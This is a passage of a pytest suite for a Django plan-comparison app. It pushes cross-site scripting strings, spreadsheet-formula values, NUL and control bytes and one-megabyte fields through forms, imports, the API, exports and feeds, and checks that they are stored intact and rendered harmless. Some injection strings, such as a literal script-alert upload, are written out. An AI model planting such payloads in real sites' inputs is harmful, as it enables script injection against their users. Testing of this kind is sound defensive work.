                _stored_as_sent(audit, where, obj, texts, textarea=True)
            elif not refused or not refused <= set(form.errors):
                audit.fail(where, f"refused {dict(form.errors)}, expected {sorted(refused)}")
            if name not in ADMIN_HTTP:
                continue
            # the page itself: a redirect to the list (which names the object) or the form
            # again with its errors, both free of live markup
            # (with points and codes of its own: the form above has taken the first ones)
            page_world = (left, page_target, new_cap, source, tag)
            model, instance, texts, rest = next(
                w for w in _admin_writes(page_world, i, value) if w[0] is model
            )
            if instance is None:
                rest = {k: f"{v}-page" if k == "slug" else v for k, v in rest.items()}
                texts = {k: f"p{v}"[:12] if k == "code" else v for k, v in texts.items()}
            url = _admin(model, "change", instance.pk) if instance else _admin(model, "add")
            if instance is not None:
                instance.refresh_from_db()
                rest = {**rest, "base_revision": instance.revision}
            data = {**management[model], **texts, **rest}
            if model is not Plan:
                data = {k: v for k, v in data.items() if not k.startswith("provisions-")}
            if model is Source:
                data["url"] = f"https://a.example/page/{i}"
            response = audit.call(editor_client, "post", url, data)
            if not audit.status(f"POST {url} <{name}>", response, allowed=(200, 302)):
                continue
            if (response.status_code == 200) != bool(refused):
                audit.fail(
                    f"POST {url} <{name}>",
                    f"status {response.status_code}, expected "
                    f"{'a refusal of ' + str(sorted(refused)) if refused else 'a save'}",
                )
            if response.status_code == 200:
                audit.html(f"POST {url} <{name}>", response)
                if "errorlist" not in response.content.decode():
                    audit.fail(f"POST {url} <{name}>", "refused without saying why")
    # each save's message names the object: they show on the next page rendered (a refusal
    # above, checked there, or this one)
    audit.html("admin messages", audit.get(editor_client, reverse("admin:index")))
    audit.done()


def test_a_version_form_saves_its_points_inline(editor_client, editor):
    """The version's change form edits, adds and deletes points inline (through the service,
    which keeps the revision and the history's user); it was a server error on every save."""
    plan = Plan.objects.create(slug="inline", title="Inline", short_name="Inline",
                               presented_on=DAY0, status="proposal", completeness="partial")  # fmt: skip
    kept, dropped = (
        Provision.objects.create(plan=plan, number=n, position=n, text=f"Point {n}.")
        for n in (1, 2)
    )
    row = {"plan": plan.pk, "sub": "", "wording": "paraphrase"}
    data = {
        "slug": plan.slug, "title": PAYLOADS["dq-breakout"], "short_name": "Inline",
        "base_revision": plan.revision,
        "presented_on": "2025-01-01", "status": "proposal", "completeness": "partial",
        "numbered": "on", "citations-TOTAL_FORMS": 0, "citations-INITIAL_FORMS": 0,
        "provisions-TOTAL_FORMS": 3, "provisions-INITIAL_FORMS": 2,
        **{f"provisions-0-{k}": v for k, v in {**row, "id": kept.pk, "number": 1, "position": 1,
           "text": PAYLOADS["script"], "base_revision": kept.revision}.items()},
        **{f"provisions-1-{k}": v for k, v in {**row, "id": dropped.pk, "number": 2,
           "position": 2, "text": dropped.text, "base_revision": dropped.revision,
           "DELETE": "on"}.items()},
        **{f"provisions-2-{k}": v for k, v in {**row, "number": 3, "position": 3,
           "text": PAYLOADS["img-onerror"]}.items()},
    }  # fmt: skip
    response = editor_client.post(_admin(Plan, "change", plan.pk), data)
    assert response.status_code == 302, _errors(response.content.decode())
    kept.refresh_from_db()
    assert (kept.text, kept.revision) == (PAYLOADS["script"], 2)
    assert kept.history.latest().history_user == editor
    assert not Provision.objects.filter(pk=dropped.pk).exists()
    assert plan.provisions.get(number=3).text == PAYLOADS["img-onerror"]
    assert Plan.objects.get(pk=plan.pk).title == PAYLOADS["dq-breakout"]


# --- Writing: importing a version from its text -----------------------------------------------

IMPORT_URL = "/admin/provisions/plan/import/"


def _import_text(value: str) -> str:
    return f"Preamble: {value}\n1. {value}\n2. The second point.\n2a. {value}\n3. Last point.\n"


def _import_form(i: int, value: str, **changes) -> dict:
    return {"slug": f"imp-{i}", "title": value, "short_name": value, "presented_on": "2026-03-01",
            "status": "proposal", "completeness": "full_text", "numbered": "on",
            "source_url": f"https://imp.example/{i}", "source_publisher": value,
            "source_title": value, "source_published_on": "2026-03-01",
            "source_language": "en", "source_reliability": "primary",
            "text": _import_text(value), **changes}  # fmt: skip


def test_admin_import_previews_and_imports_or_refuses(editor_client):
    """The import screen with a payload in the text and in every field: the preview shows it
    as text, and confirming imports it exactly or refuses it with the form's errors."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    audit = Audit("import")
    audit.html(IMPORT_URL, audit.get(editor_client, IMPORT_URL))
    for i, (name, value) in enumerate(PAYLOADS.items()):
        data = _import_form(i, value)
        refused = _expected_refusals(Plan, {"title": value, "short_name": value}) | (
            _expected_refusals(Source, {"publisher": value, "title": value})
        )
        for step in ("preview", "confirm"):
            response = audit.call(editor_client, "post", IMPORT_URL, {**data, step: "1"})
            if response is None:
                break
            where = f"import {step} <{name}>"
            if response.status_code == 302:
                if step == "preview" or refused:
                    audit.fail(where, f"imported, but {sorted(refused)} should be refused")
                break
            audit.html(where, response)
            page = response.content.decode()
            if step == "confirm" and not refused:
                audit.fail(where, f"not imported: {_errors(page)}")
            if refused and "errorlist" not in page and "errornote" not in page:
                audit.fail(where, "refused without saying why")
        plan = Plan.objects.filter(slug=f"imp-{i}").first()
        if plan is not None:
            _stored_as_sent(audit, f"import <{name}>", plan, {"title": value, "short_name": value})
            first = plan.provisions.get(number=1, sub="")
            audit.count("payload x field (writes)")
            first_line = re.split(r"\r\n|\r|\n", value)[0]
            if " ".join(first_line.split()) not in first.text:  # the parser joins wrapped lines
                audit.fail(f"import <{name}>", f"point 1 reads {first.text[:40]!r}")
            for url in (plan.get_absolute_url(), first.get_absolute_url(),
                        _admin(Plan, "change", plan.pk)) if name in ADMIN_HTTP else ():  # fmt: skip
                audit.html(f"{url} after import <{name}>", audit.get(editor_client, url))

    # uploads: bytes that are not text, NUL, control characters, too much
    uploads = {
        "nul": b"1. First\x00 point.\n2. Second.\n",
        "nul-bom": b"\xef\xbb\xbf1. First.\n2. Sec\x00ond.\n",
        "latin-1": "1. Premi\xe8re.\n2. Deuxi\xe8me.\n".encode("latin-1"),
        "overlong-utf8": b"1. \xc0\xbcscript\xc0\xbe.\n2. Second.\n",
        "surrogate-bytes": b"1. \xed\xa0\x80.\n2. Second.\n",
        "controls": "1. c0 \x01\x02\x1b[31m \x7f.\n2. Second \u202e.\n".encode(),
        "crlf-script": b"1. <script>alert(1)</script>\r\n2. Second.\r\n",
        "too-large": b"1. " + b"A" * 1_000_001,
    }
    for n, (name, content) in enumerate(uploads.items()):
        data = _import_form(500 + n, "Uploaded plan")
        data.pop("text")
        for step in ("preview", "confirm"):
            data["file"] = SimpleUploadedFile("plan.txt", content, content_type="text/plain")
            response = audit.call(editor_client, "post", IMPORT_URL, {**data, step: "1"})
            where = f"upload {step} <{name}>"
            if response is None:
                break
            if response.status_code == 302:
                plan = Plan.objects.get(slug=f"imp-{500 + n}")
                texts = " ".join(plan.provisions.values_list("text", flat=True))
                if "\x00" in texts or name in ("nul", "nul-bom", "too-large", "latin-1"):
                    audit.fail(where, "imported what should be refused")
                break
            audit.html(where, response)
            if step == "confirm" and name in ("controls", "crlf-script"):
                audit.fail(where, f"not imported: {_errors(response.content.decode())}")
    audit.done()


def _errors(page: str) -> str:
    found = re.findall(
        r'class="(?:errorlist|errornote|problem-blocking)[^"]*"[^>]*>(.*?)</', page, re.S
    )
    return "; ".join(found)[:300] or "no error shown"


def test_import_service_and_command_refuse_nul_and_keep_the_rest(tmp_path):
    """The same parser and service behind the admin page, and the command line."""
    from provisions import importing

    audit = Audit("import service")
    for i, (name, value) in enumerate(NUL_FREE.items()):
        parsed = importing.parse(_import_text(value))
        if not parsed.ok:
            continue  # the page shows why; nothing to import
        plan = Plan(slug=f"svc-{i}", title=value[:300], short_name=value[:80] or "x",
                    presented_on=DAY0, status="proposal", completeness="full_text")  # fmt: skip
        source = services.source_for(url=f"https://svc.example/{i}", publisher="P", title="T",
                                     published_on=DAY0)  # fmt: skip
        try:
            services.plan_import(plan=plan, parsed=parsed, source=source)
        except Exception as error:
            if not isinstance(error, services.ValidationError):
                audit.fail(f"plan_import <{name}>", f"{type(error).__name__}: {error}")
    for name in ("nul", "nul-script"):
        parsed = importing.parse(_import_text(PAYLOADS[name]))
        if parsed.ok or "NUL" not in parsed.problems[0].message:
            audit.fail(f"parse <{name}>", f"not refused: {parsed.problems}")

    for n, (name, content) in enumerate({
        "nul": b"1. First\x00.\n2. Second.\n",
        "script": b"1. <script>alert(1)</script>\n2. Second.\n",
        "controls": "1. \x01\x1b[2J\u202e.\n2. Second.\n".encode(),
        "not-utf8": b"1. \xff\xfe.\n2. Second.\n",
    }.items()):  # fmt: skip
        path = tmp_path / f"{name}.txt"
        path.write_bytes(content)
        args = [str(path), "--slug", f"cmd-{n}", "--title", "<b>Imported</b>",
                "--presented-on", "2026-04-01", "--source-url", f"https://cmd.example/{n}",
                "--source-publisher", "P", "--source-title", "T",
                "--source-published-on", "2026-04-01"]  # fmt: skip
        try:
            call_command("import_plan", *args, stdout=io.StringIO(), stderr=io.StringIO())
        except CommandError:
            if name in ("script", "controls"):
                audit.fail(f"import_plan <{name}>", "refused")
        except Exception as error:
            audit.fail(f"import_plan <{name}>", f"{type(error).__name__}: {error}")
        else:
            if name in ("nul", "not-utf8"):
                audit.fail(f"import_plan <{name}>", "imported")
    audit.done()


def test_bulk_tagging_and_stale_saves_with_payloads(editor_client, editor, small_world):
    """The tagging action's rationale, and the stale-save refusal that quotes the other
    editor's text back (admin form error and API 412)."""
    audit = Audit("tagging and stale saves")
    left = small_world["left"]
    tag = Tag.objects.get(slug="contested")
    api = APIClient()
    api.force_authenticate(editor)
    changelist = _admin(Provision, "changelist")
    for i, name in enumerate(ADMIN_HTTP):
        value = PAYLOADS[name]
        points = [Provision.objects.create(plan=left, number=900 + 2 * i + k, position=900 + i,
                                           text=f"Point {k}") for k in (0, 1)]  # fmt: skip
        response = audit.call(editor_client, "post", changelist, {
            "action": "tag_selected", "apply": "1", "tag": tag.pk, "rationale": value,
            "_selected_action": [p.pk for p in points],
        }, follow=True)  # fmt: skip
        refused = _expected_refusals(Assessment, {"rationale": value})
        if audit.status(f"tag_selected <{name}>", response):
            audit.html(f"tag_selected <{name}>", response)
        stored = Assessment.objects.filter(provision__in=points)
        if refused and stored.exists():
            audit.fail(f"tag_selected <{name}>", "stored what should be refused")
        for assessment in stored:
            _stored_as_sent(audit, f"tag_selected <{name}>", assessment, {"rationale": value})
        if not refused and stored.count() != 2:
            audit.fail(f"tag_selected <{name}>", f"{stored.count()} of 2 tagged")

        # someone saves the payload as the text while an editor still has the old revision open
        point = points[0]
        opened = point.revision
        if refused:
            continue
        point.text = value
        services.record_save(obj=point, revision=opened, user=editor)
        url = _admin(Provision, "change", point.pk)
        data = {"plan": left.pk, "number": point.number, "position": point.position,
                "text": "My edit.", "wording": "paraphrase", "base_revision": opened}  # fmt: skip
        for prefix in (
            "citations",
            "assessments",
            "positions",
            "predecessor_links",
            "successor_links",
        ):
            data |= {f"{prefix}-TOTAL_FORMS": 0, f"{prefix}-INITIAL_FORMS": 0}
        response = audit.call(editor_client, "post", url, data)
        if audit.status(f"stale admin save <{name}>", response):
            audit.html(f"stale admin save <{name}>", response)
            if "Someone else saved" not in response.content.decode():
                audit.fail(f"stale admin save <{name}>", "not refused as stale")
        response = audit.call(api, "patch", f"/api/plans/{left.slug}/provisions/{point.label}/",
                              _json({"text": "Mine."}), **JSON, HTTP_IF_MATCH=f'"{opened}"')  # fmt: skip
        ok = audit.status(f"stale API save <{name}>", response, allowed=(412,))
        if ok and response.json()["current_text"] != value:
            audit.fail(f"stale API save <{name}>", "the current text not given back whole")
    audit.done()


# --- One megabyte --------------------------------------------------------------------------


def test_a_megabyte_is_stored_where_a_field_has_no_limit_and_refused_where_it_has(
    client, editor, small_world
):
    audit = Audit("1 MB")
    api = APIClient()
    api.force_authenticate(editor)
    left, cap = small_world["left"], small_world["cap"]
    new_cap = small_world["right"].provisions.get()
    source = Source.objects.create(publisher="P", title="T", url="https://mb.example/",
                                   published_on=DAY0, language="en", coverage="summary",
                                   reliability="press")  # fmt: skip
    plan = {"slug": "mb", "title": "MB", "short_name": "MB", "presented_on": "2026-01-01",
            "status": "proposal", "completeness": "partial"}  # fmt: skip
    src = {"publisher": "P", "title": "T", "url": "https://mb.example/2", "language": "en",
           "published_on": "2026-01-01", "coverage": "summary", "reliability": "press"}  # fmt: skip
    point = {"plan": left.slug, "number": 77, "position": 77, "text": "x"}
    unlinked = Provision.objects.create(plan=left, number=78, position=78, text="y")
    fields = [  # endpoint, model, base, field
        ("/api/plans/", Plan, plan, ["title", "short_name", "summary", "note"]),
        ("/api/sources/", Source, src, ["publisher", "title", "author", "code", "language",
                                        "note"]),
        ("/api/provisions/", Provision, point, ["text", "summary", "note"]),
        ("/api/citations/", Citation,
         {"source": source.pk, "provision": cap.pk, "plan": None, "reading_language": "uk"},
         ["locator", "excerpt", "reading", "note"]),
        ("/api/assessments/", Assessment, {"provision": new_cap.pk, "tag": "contested"},
         ["rationale"]),
        ("/api/correspondences/", Correspondence,
         {"earlier": unlinked.pk, "later": new_cap.pk, "relation": "split"}, ["note"]),
        ("/api/themes/", Theme, {"slug": "mb", "name": "N"}, ["name", "description"]),
        ("/api/tags/", Tag, {"slug": "mb", "name": "N"}, ["name", "description"]),
        ("/api/parties/", Party, {"slug": "mb", "name": "N", "kind": "state"}, ["name"]),
    ]  # fmt: skip
    stored = {}
    for url, model, base, names in fields:
        for name in names:
            data = {**base, name: ONE_MB}
            response = audit.call(api, "post", url, _json(data), **JSON)
            body = _check_write(audit, f"POST {url} 1 MB {name}", response, model, {name: ONE_MB})
            if body is not None:
                obj = model.objects.get(**_lookup(model, body))
                _stored_as_sent(audit, f"POST {url} 1 MB {name}", obj, {name: ONE_MB})
                stored[(model, name)] = obj
                obj.delete()  # so the next field can reuse the slug or the pair
    if (Provision, "text") not in stored:
        audit.fail("1 MB", "a provision's text of 1 MB was not stored")

    # the admin form: refused where there is a limit, stored where there is none
    url = _admin(Provision, "change", cap.pk)
    base = {"plan": left.pk, "number": cap.number, "position": cap.position, "text": "x",
            "wording": "paraphrase"}  # fmt: skip
    for prefix in ("citations", "assessments", "positions", "predecessor_links", "successor_links"):
        base |= {f"{prefix}-TOTAL_FORMS": 0, f"{prefix}-INITIAL_FORMS": 0}
    for name, refused in (("summary", True), ("note", False), ("text", False)):
        cap.refresh_from_db()
        client.force_login(editor)
        response = audit.call(client, "post", url,
                              {**base, name: ONE_MB, "base_revision": cap.revision})  # fmt: skip
        ok = audit.status(f"admin 1 MB {name}", response, allowed=(200, 302))
        if ok and (response.status_code == 200) != refused:
            audit.fail(f"admin 1 MB {name}", f"status {response.status_code}")
    # a megabyte of text on the pages that show it whole (the point now has 1 MB text)
    client.logout()
    cap.refresh_from_db()
    if cap.text != ONE_MB:
        audit.fail("admin 1 MB text", "not stored")
    for url in (cap.get_absolute_url(), left.get_absolute_url(),
                reverse("provisions:compare", args=[left.slug, small_world["right"].slug])):  # fmt: skip
        audit.html(f"{url} with 1 MB", audit.get(client, url))
    audit.html("search 1 MB", audit.get(client, reverse("provisions:search"), {"q": "lorem"}))
    audit.done()


# --- Spreadsheet formulas --------------------------------------------------------------------

FORMULAS = {name: PAYLOADS[name] for name in PAYLOADS if name.startswith("csv-")}


def test_csv_exports_neutralise_spreadsheet_formulas(client, editor, small_world):
    left, right = small_world["left"], small_world["right"]
    for n, value in enumerate(FORMULAS.values()):
        Provision.objects.create(plan=left, number=50 + n, position=50 + n, text=value,
                                 note=value, summary=value[:200])  # fmt: skip
        Provision.objects.create(plan=right, number=50 + n, position=50 + n, text=value)
    export = reverse("provisions:compare-export", args=[left.slug, right.slug, "csv"])
    rows = list(csv.reader(io.StringIO(client.get(export).content.decode())))
    api = APIClient()
    api.force_authenticate(editor)
    response = api.get("/api/provisions/", {"format": "csv"})
    rows += list(csv.reader(io.StringIO(response.content.decode())))
    # the formula payloads are in the files, behind the apostrophe that marks them as text …
    cells = {c.removeprefix("'").strip() for r in rows for c in r}
    assert {value.strip() for value in FORMULAS.values()} <= cells
    # … and no cell may start like a formula
    assert _formula_cells(rows) == []


# --- Reading back stored payloads: one world, built once for the module ------------------------


def _cut(value: str, model, field: str) -> str:
    """The payload cut to the column's length, as any database would hold it."""
    limit = model._meta.get_field(field).max_length
    return value[:limit] if limit else value


def build_world(editor) -> dict:
    """Two versions whose every point, link, tag, theme, source and citation carries a payload,
    and one small version per payload carrying it in its own fields."""
    left = Plan.objects.create(
        slug="hostile-left", title=PAYLOADS["dq-breakout"], short_name="<b>left</b>\u202e",
        presented_on=DAY0, status="proposal", completeness="full_text",
        summary=PAYLOADS["script"], note=PAYLOADS["sq-attribute"],
    )  # fmt: skip
    right = Plan.objects.create(
        slug="hostile-right", title=PAYLOADS["svg-onload"], short_name='"><i>right',
        presented_on=DAY0 + datetime.timedelta(1), status="framework",
        completeness="partial", based_on=left, summary=PAYLOADS["img-onerror"],
    )  # fmt: skip
    world = {"left": left, "right": right, "plans": [], "L": [], "R": [], "themes": [],
             "tags": [], "sources": [], "links": [], "parties": []}  # fmt: skip
    for i, (_name, value) in enumerate(SEED):
        cut = lambda model, field, v=value: _cut(v, model, field)  # noqa: E731
        plan = Plan.objects.create(
            slug=f"hp-{i}", title=cut(Plan, "title"), short_name=cut(Plan, "short_name"),
            presented_on=DAY0 + datetime.timedelta(10 + i), status="proposal",
            completeness="reported_only", summary=value, note=value,
            based_on=left if i % 10 == 0 else None,
        )  # fmt: skip
        theme = Theme.objects.create(slug=f"theme-{i}", name=cut(Theme, "name"), description=value)
        tag = Tag.objects.create(slug=f"tag-{i}", name=cut(Tag, "name"), description=value)
        party = Party.objects.create(slug=f"party-{i}", name=cut(Party, "name"), kind="state")
        # every other source has the payload as its address, the rest a real-looking one
        url = value.strip() if i % 2 and value.strip() else f"https://news.example.org/{i}/{value}"
        source = Source.objects.create(
            code=f"{i}{value}"[:12], publisher=cut(Source, "publisher"),
            title=cut(Source, "title"), author=cut(Source, "author"), url=url[:500],
            published_on=DAY0, date_precision=["day", "month", "year"][i % 3],
            language=cut(Source, "language"), coverage="analysis", reliability="press",
            archived_url=url[:500], note=value,
        )  # fmt: skip
        # the left point is created plain and then edited to the payload, so its history shows
        # the payload in a word diff
        point = Provision(plan=left, number=i + 1, position=i + 1, text=f"Draft {i} of the point.")
        services.record_save(obj=point, user=editor)
        point.text, point.note, point.summary = value, value, cut(Provision, "summary")
        point.wording = ["verbatim", "paraphrase", "reported"][i % 3]
        point.label_confirmed = bool(i % 4)
        services.record_save(obj=point, revision=point.revision, user=editor)
        later_text = f"{value} amended: {SEED[(i + 1) % N][1]}"
        later = Provision.objects.create(
            plan=right, number=i + 1, position=i + 1, text=later_text, note=value
        )
        point.themes.add(theme)
        later.themes.add(theme)
        left.parties.add(party)
        Citation.objects.create(
            source=source, provision=point, locator=cut(Citation, "locator"),
            excerpt=cut(Citation, "excerpt"), reading=f"{value} reads differently", note=value,
        )  # fmt: skip
        Citation.objects.create(
            source=source, plan=left, locator=cut(Citation, "locator"), reading=value, note=value
        )
        Assessment.objects.create(
            provision=point, tag=tag, rationale=value, source=source, author=editor,
            status="suggested" if i % 2 else "confirmed",
        )  # fmt: skip
        if i % 7:  # some points stay unlinked: removed and new rows
            link = services.correspondence_link(
                earlier=point, later=later, relation="modified", note=value, user=editor,
                status="suggested" if i % 3 == 0 else "confirmed",
            )  # fmt: skip
            world["links"].append(link)
        for key, obj in (("plans", plan), ("L", point), ("R", later), ("themes", theme),
                         ("tags", tag), ("sources", source), ("parties", party)):  # fmt: skip
            world[key].append(obj)
    return world


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    """Built once for the tests below, which only read it; rolled back after the last."""
    from django.contrib.auth import get_user_model

    with django_db_blocker.unblock(), transaction.atomic():
        author = get_user_model().objects.create_user("world-editor")
        yield build_world(author)
        transaction.set_rollback(True)


def _values(objects, field) -> list[str]:
    return [getattr(obj, field) for obj in objects]


# --- Reading it back: the public pages ---------------------------------------------------------


def test_public_pages_show_the_payloads_as_text(client, world):
    audit = Audit("public pages")
    left, right, points, laters = world["left"], world["right"], world["L"], world["R"]
    plans = world["plans"]

    # home page, every page of it
    for page in (1, 2):
        response = audit.get(client, "/", {"page": page})
        shown = plans[max(0, 50 * (page - 1) - 2) : 50 * page - 2]
        audit.html(f"/?page={page}", response, {"plan.short_name": _values(shown, "short_name"),
                                                 "plan.title": _values(shown, "title")})  # fmt: skip

    # every small version's page: its title, short name, summary and note
    for plan in plans:
        audit.html(plan.get_absolute_url(), audit.get(client, plan.get_absolute_url()), {
            "plan.title": [plan.title], "plan.short_name": [plan.short_name],
            "plan.summary": [plan.summary], "plan.note": [plan.note],
        })  # fmt: skip

    # the two big versions, whole and as the htmx partial
    for plan, rows in ((left, points), (right, laters)):
        expect = {"provision.text": _values(rows, "text"),
                  "theme.name": _values(world["themes"], "name")}  # fmt: skip
        if plan is left:
            expect |= {
                "tag.name": _values(world["tags"], "name"),
                "party.name": _values(world["parties"], "name"),
                "source.publisher": _values(world["sources"], "publisher"),
                "source.title": _values(world["sources"], "title"),
                "citation.reading": [c.reading for c in left.citations.all()],
                "citation.note": [c.note for c in left.citations.all()],
            }
        url = plan.get_absolute_url()
        audit.html(url, audit.get(client, url), expect)
        partial = {"provision.text": expect["provision.text"]}
        audit.html(f"{url} (htmx)", audit.get(client, url, headers={"HX-Request": "true"}), partial)
        audit.html(f"{url}?theme&tag", audit.get(client, url, {"theme": "theme-3", "tag": "tag-3"}))

    # every point of both versions, with its assessments, readings, sources, lineage, history
    # and citation block
    for point in points:
        url = point.get_absolute_url()
        citation = point.citations.get()
        assessment = point.assessments.get()
        expect = {
            "provision.text": [point.text], "provision.note": [point.note],
            "assessment.rationale": [assessment.rationale], "tag.name": [assessment.tag.name],
            "citation.locator": [citation.locator], "citation.excerpt": [citation.excerpt],
            "citation.reading": [citation.reading], "citation.note": [citation.note],
            "source.publisher": [citation.source.publisher],
            "source.title": [citation.source.title],
        }  # fmt: skip
        link = point.successor_links.first()
        if link:
            expect["correspondence.note"] = [link.note]
        audit.html(url, audit.get(client, url), expect)
    for later in laters[::3]:
        audit.html(later.get_absolute_url(), audit.get(client, later.get_absolute_url()),
                   {"provision.note": [later.note]})  # fmt: skip
    url = points[1].get_absolute_url()
    audit.html(f"{url}?baseline", audit.get(client, url, {"baseline": right.slug}))

    audit.done()


def test_comparison_search_scorecard_and_pick_pages(client, world):
    audit = Audit("comparison, search, scorecard, pick")
    left, right, points = world["left"], world["right"], world["L"]
    here = reverse("provisions:compare", args=[left.slug, right.slug])
    # the right side is a word diff against the left, so only the left texts read whole
    texts = {"left text": _values(points, "text"),
             "correspondence.note": _values(world["links"], "note"),
             "theme.name": _values(world["themes"], "name"),
             "tag.name": _values(world["tags"], "name")}  # fmt: skip
    audit.html(here, audit.get(client, here), texts)
    audit.html(f"{here}?layout=inline", audit.get(client, here, {"layout": "inline"}), texts)
    audit.html(f"{here}?layout=origins", audit.get(client, here, {"layout": "origins"}),
               {"correspondence.note": texts["correspondence.note"]})  # fmt: skip
    audit.html(f"{here} (htmx)", audit.get(client, here, headers={"HX-Request": "true"}),
               {"correspondence.note": texts["correspondence.note"]})  # fmt: skip
    audit.html(f"{here}?changes_only", audit.get(client, here, {"changes_only": "on"}))
    audit.html(f"{here}?theme", audit.get(client, here, {"theme": "theme-5", "tag": "tag-5"}))

    # searches that find the hostile points: their text comes back highlighted. Only words that
    # stand as words in the text: PostgreSQL's text-search parser skips what it reads as tags
    # ("style" occurs only inside <style> and style="…") and English stop words ("a")
    search = reverse("provisions:search")
    for words in ("alert", "script", "onerror", "javascript", "select", "line", "hover", "never"):
        for headers in ({}, {"HX-Request": "true"}):
            response = audit.get(client, search, {"q": words}, headers=headers)
            audit.html(f"{search}?q={words}{' (htmx)' if headers else ''}", response)
            if response is not None and "<mark>" not in response.content.decode():
                audit.fail(f"{search}?q={words}", "found nothing to highlight")

    # the scorecard (theme names, version names), the pickers' page (every version's name)
    scorecard = reverse("provisions:scorecard")
    audit.html(scorecard, audit.get(client, scorecard),
               {"theme.name": _values(world["themes"], "name")})  # fmt: skip
    pick = reverse("provisions:compare-pick")
    audit.html(pick, audit.get(client, pick),
               {"plan.short_name": _values(world["plans"], "short_name")})  # fmt: skip
    audit.done()


# --- Exports, API and feeds --------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _formula_cells(rows) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def test_comparison_exports_keep_every_value_in_its_cell(client, world):
    audit = Audit("exports")
    left, right, points = world["left"], world["right"], world["L"]
    for query in ({}, {"layout": "inline"}, {"changes_only": "on"}):
        url = reverse("provisions:compare-export", args=[left.slug, right.slug, "csv"])
        response = audit.get(client, url, query)
        if not audit.status(url, response):
            continue
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        if any(len(row) != len(rows[0]) for row in rows):
            audit.fail(url, "a row with the wrong number of cells")
        left_texts = {row[6] for row in rows[1:]}
        for point in points:
            audit.count("payload x field x screen (exports)")
            if not query and spreadsheet_safe(point.text) not in left_texts:
                audit.fail(url, f"left text {point.text[:30]!r} not in a cell of its own")

        url = reverse("provisions:compare-export", args=[left.slug, right.slug, "md"])
        response = audit.get(client, url, query)
        if not audit.status(url, response):
            continue
        body = response.content.decode()
        if "\r" in body:
            audit.fail(url, "a carriage return inside the table: a cell can start a new row")
        lines = body.split("\n")
        table = [line for line in lines if line.startswith("|")]
        header_cells = len(re.split(r"(?<!\\)\|", table[0]))
        for line in table:
            audit.count("payload x field x screen (exports)")
            if len(re.split(r"(?<!\\)\|", line)) != header_cells:
                audit.fail(url, f"a table row with the wrong number of cells: {line[:60]!r}")
        if not lines[0].startswith("# ") or not lines[2].startswith("Exported"):
            audit.fail(url, f"the heading was broken up: {lines[:3]!r}")
    audit.done()


def test_api_reads_csv_and_browsable_pages(world, editor):
    audit = Audit("API")
    api = APIClient()
    api.force_authenticate(editor)  # not throttled like anonymous clients
    left, points = world["left"], world["L"]
    lists = ["plans", "provisions", "sources", "citations", "assessments", "correspondences",
             "themes", "tags", "parties"]  # fmt: skip
    for name in lists:
        url = f"/api/{name}/"
        response = audit.get(api, url, {"page_size": 200})
        if audit.status(url, response):
            json.loads(response.content)
            if response["Content-Type"] != "application/json":
                audit.fail(url, f"served as {response['Content-Type']}")
        response = audit.get(api, url, {"format": "csv"})
        if audit.status(f"{url}?format=csv", response):
            rows = list(csv.reader(io.StringIO(response.content.decode())))
            if any(len(row) != len(rows[0]) for row in rows):
                audit.fail(f"{url}?format=csv", "a row with the wrong number of cells")
            audit.count("payload x field x screen (API CSV)", (len(rows) - 1) * len(rows[0]))
        # the browsable API is HTML with the data in it: as an editor, with its forms too
        audit.html(f"{url}?format=api", audit.get(api, url, {"format": "api", "page_size": 20}))
    details = [f"/api/plans/{left.slug}/", f"/api/plans/{world['plans'][3].slug}/"]
    details += [f"/api/plans/{left.slug}/provisions/{p.label}/" for p in points]
    details += [f"/api/sources/{s.pk}/" for s in world["sources"][:10]]
    for url in details:
        response = audit.get(api, url)
        if audit.status(url, response):
            json.loads(response.content)
            audit.count("payload x field x screen (API JSON)", 10)
    for url in [*details[1:4], f"/api/tags/{world['tags'][5].slug}/"]:
        audit.html(f"{url}?format=api", audit.get(api, url, {"format": "api"}))
    for point in points:
        url = f"/api/plans/{left.slug}/provisions/{point.label}/cite/"
        for style in ("all", "bibtex", "csl"):
            audit.status(f"{url}?style={style}", audit.get(api, url, {"style": style}))
    url = "/api/compare/"
    response = audit.get(api, url, {"left": left.slug, "right": world["right"].slug})
    if audit.status(url, response):
        rows = json.loads(response.content)["rows"]
        seen = {p["text"] for row in rows for p in row["left"]}
        for point in points:
            audit.count("payload x field x screen (API JSON)")
            if point.text not in seen:
                audit.fail(url, f"{point.text[:30]!r} missing from the comparison data")
    response = audit.get(api, "/api/export/")
    if audit.status("/api/export/", response):
        json.loads(b"".join(response.streaming_content))
    audit.done()


def test_atom_feeds_are_well_formed_and_carry_no_markup(client, world):
    audit = Audit("feeds")
    left, points = world["left"], world["L"]
    urls = ["/api/feeds/versions/", f"/api/feeds/plans/{left.slug}/"]
    urls += [f"/api/feeds/plans/{left.slug}/provisions/{p.label}/" for p in points]
    urls += [f"/api/feeds/tags/{tag.slug}/" for tag in world["tags"]]
    atom = "{http://www.w3.org/2005/Atom}"
    for url in urls:
        response = audit.get(client, url)
        if not audit.status(url, response):
            continue
        try:
            feed = ET.fromstring(response.content)
        except ET.ParseError as error:
            audit.fail(url, f"not well-formed XML: {error}")
            continue
        for element in feed.iter():
            text = element.text or ""
            if element.get("type") == "html":
                # a feed reader renders this as HTML: data must arrive escaped within it
                audit.count("payload x field x screen (feeds)")
                for problem in markup_problems(text):
                    audit.fail(url, f"<{element.tag.removeprefix(atom)} type=html>: {problem}")
                if re.search(r"<\s*[a-z!/]", text, re.I):
                    audit.fail(url, f"markup in an HTML summary: {text[:60]!r}")
    audit.done()


# --- The admin, as an editor -------------------------------------------------------------------


def test_admin_screens_show_the_payloads_as_text(editor_client, world):
    audit = Audit("admin screens")
    client = editor_client
    left, points = world["left"], world["L"]
    for model in MODELS:
        url = _admin(model, "changelist")
        audit.html(url, audit.get(client, url, {"all": ""}))
        audit.html(f"{url}?p=2", audit.get(client, url, {"p": 2}))
    # the review screen: suggested links and tags, filtered as the suggest action leaves it
    for model in (Correspondence, Assessment):
        url = _admin(model, "changelist")
        audit.html(
            f"{url}?status=suggested", audit.get(client, url, {"status__exact": "suggested"})
        )
    audit.html("plans changelist", audit.get(client, _admin(Plan, "changelist"), {"q": "hp"}),
               {"plan.short_name": _values(world["plans"][:50], "short_name")})  # fmt: skip

    # every point's history (each a word diff from a plain draft to the payload); the change
    # forms in turn: a third of the points (with their citation, assessment and link inlines),
